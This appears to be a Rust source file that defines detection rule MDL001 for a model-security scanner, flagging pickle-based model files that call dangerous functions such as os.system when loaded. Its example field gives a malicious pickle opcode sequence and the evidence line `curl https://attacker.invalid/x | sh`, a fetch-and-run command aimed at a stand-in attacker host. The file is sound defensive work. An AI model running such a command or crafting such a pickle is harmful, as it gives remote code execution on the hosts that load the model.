//! MDL001: its check is a row of the import-verdict table (`import_verdicts.rs`),
//! shared with MDL002, MDL004 and MDL014.

use aispm_core::framework::*;
use aispm_core::{Category, Rule, Severity};

/// MDL001: Pickle calls a dangerous callable when loaded.
pub static RULE: Rule = Rule {
    id: "MDL001",
    name: "pickle-dangerous-call",
    title: "Pickle calls a dangerous callable when loaded",
    category: Category::Model,
    severity: Severity::Critical,
    what: "Reports pickles (and PyTorch, joblib and NumPy files holding pickles) that call a dangerous callable while they are loaded: process execution (`os.system`, `subprocess.Popen`, `pty.spawn`), code evaluation (`builtins.eval`, `exec`, `runpy`, `importlib`), attribute-getter gadgets, file and network access, package installers, debuggers and profilers, nested deserialisers and interpreter internals. The call is found by following the unpickler's stack symbolically (REDUCE, INST, OBJ, NEWOBJ, NEWOBJ_EX and an installed `__setstate__`), so memo indirection and STACK_GLOBAL do not hide it. Submodules of a dangerous module are dangerous too.",
    why: "Unpickling is code execution: whatever a pickle calls runs with the rights of the process that loads the model, typically a training or serving host holding credentials and data. This is the classic malicious-model attack on model hubs.",
    example: "`model.pkl` whose stream is `GLOBAL os system`, a string, `TUPLE1`, `REDUCE`: reported with the evidence `os.system('curl https://attacker.invalid/x | sh')`.",
    remediation: "Do not load the file. Obtain the model from a trusted source, verify its digest, and prefer a format that cannot run code (safetensors, GGUF, ONNX). Where pickles are unavoidable, load them with `torch.load(..., weights_only=True)` or an allow-listing unpickler.",
    controls: &[
        LLM03,
        ML06,
        ML10,
        ATLAS_T0010_003,
        ATLAS_T0011_000,
        ATLAS_T0018_002,
        ATLAS_M0011,
        ATLAS_M0014,
        EU_ART_15,
        NIST_MEASURE_2_7,
        NIST_MANAGE_3_2,
    ],
};
